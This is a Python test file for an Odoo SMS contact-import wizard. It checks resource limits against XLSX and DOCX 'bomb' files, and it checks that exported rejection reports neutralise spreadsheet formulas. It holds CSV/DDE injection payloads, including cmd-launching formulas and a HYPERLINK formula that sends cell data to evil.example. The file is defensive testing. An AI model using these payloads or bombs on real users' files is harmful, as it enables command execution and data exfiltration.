"""Contact import against hostile files (issue 15, items 6 and 7): resource limits, and a report safe in Excel."""

import base64
import csv
import io
import time
import tracemalloc
import zipfile

import docx
import openpyxl

from odoo.exceptions import UserError
from odoo.tests import tagged

from ..tools import contact_files
from .common import AfricasTalkingCase

# What any of the bombs below may cost at most to be refused (tracemalloc peak, wall clock on a loaded 2-core box).
MAX_PEAK_BYTES = 50 * 1024 * 1024
MAX_SECONDS = 20


def _rewrite_part(data, part, change):
    """A copy of the OOXML package ``data`` with ``change(bytes)`` applied to one part."""
    source, output = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            target.writestr(info.filename, change(content) if info.filename == part else content)
    return output.getvalue()


def merged_range_bomb():
    """A few KB of XLSX whose one merged range spans C1:XFD1000 (16 million cells)."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["Name", "Mobile", "Class"])
    workbook.active.append(["Jane", "+254722000001", "3B"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _rewrite_part(buffer.getvalue(), "xl/worksheets/sheet1.xml", lambda xml: xml.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="C1:XFD1000"/></mergeCells>'))


def paragraph_bomb(count=1_000_000):
    """A small DOCX of ``count`` empty paragraphs after one contact line."""
    document = docx.Document()
    document.add_paragraph("Jane Doe 0722 000 001")
    buffer = io.BytesIO()
    document.save(buffer)
    return _rewrite_part(buffer.getvalue(), "word/document.xml",
                         lambda xml: xml.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * count, 1))


@tagged("post_install", "-at_install")
class TestImportHardening(AfricasTalkingCase):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.list_parents = cls.env["mailing.list"].create({"name": "Hardening"})

    def _wizard(self, filename, data):
        return self.env["sms.contact.import"].with_user(self.user_marketing).create({
            "file": base64.b64encode(data), "filename": filename, "list_ids": [(6, 0, self.list_parents.ids)],
        })

    def assertRefusedCheaply(self, filename, data, message):
        """The preview (onchange) and the import both refuse with ``message``, within time and memory bounds."""
        wizard = self._wizard(filename, data)
        tracemalloc.start()
        started = time.monotonic()
        try:
            with self.assertRaisesRegex(UserError, message):
                wizard._onchange_file()
                wizard.action_import()
            elapsed, peak = time.monotonic() - started, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        self.assertLess(elapsed, MAX_SECONDS)
        self.assertLess(peak, MAX_PEAK_BYTES)
        self.assertFalse(self.list_parents.contact_ids)

    def test_merged_range_bomb(self):
        data = merged_range_bomb()
        self.assertLess(len(data), 20_000)
        self.assertRefusedCheaply("bomb.xlsx", data, "merges cells across more than 200 columns")

    def test_million_paragraph_docx(self):
        data = paragraph_bomb()
        self.assertLess(len(data), 200_000)
        self.assertRefusedCheaply("bomb.docx", data, "more than 50,000 paragraphs")

    def test_row_column_cell_and_size_limits(self):
        self.patch(contact_files, "MAX_ROWS", 50)
        rows = "\n".join("Parent %s,+2547220%05d" % (index, index) for index in range(60))
        self.assertRefusedCheaply("many.csv", ("Name,Mobile\n" + rows).encode(), "more than 250,000 rows")
        wide = ",".join(["x"] * (contact_files.MAX_COLUMNS + 1))
        self.assertRefusedCheaply("wide.csv", ("Name,Mobile\nJane,0722000001," + wide).encode(), "200 columns")
        self.assertRefusedCheaply("long.csv", ("Name,Mobile\n%s,0722000001" % ("J" * 1001)).encode(),
                                  "more than 1,000 characters")
        self.patch(contact_files, "MAX_FILE_BYTES", 1000)
        self.assertRefusedCheaply("big.csv", b"Name,Mobile\n" + b"Jane,0722000001\n" * 100, "larger than 25 MB")

    def test_rejected_rows_report_is_safe_in_a_spreadsheet(self):
        hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0",
                   "@SUM(1+1)*cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]
        rows = [["=Name", "Mobile"]] + [[value, "not a number"] for value in hostile]
        rows += [["Jane", "+254722000001"], ["Jane again", "+254722000001"]]  # the second is a duplicate
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        wizard = self._wizard("hostile.csv", buffer.getvalue().encode())
        wizard._onchange_file()
        wizard.action_import()
        report = base64.b64decode(wizard.report_attachment_id.datas).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
        for cell in cells:
            self.assertFalse(cell.startswith(("=", "@", "-", "\t", "\r")), cell)
            self.assertFalse(cell.startswith("+") and not cell[1:].isdigit(), cell)
        for value in hostile:
            # The reader strips cells: a leading tab or CR is gone, the formula after it is still neutralized.
            self.assertIn("'" + value.strip(), cells, "the text stays readable, as text")
        self.assertIn("'=Name", cells, "the header comes from the file too")
        self.assertIn("+254722000001", cells, "an E.164 number stays usable as it is")
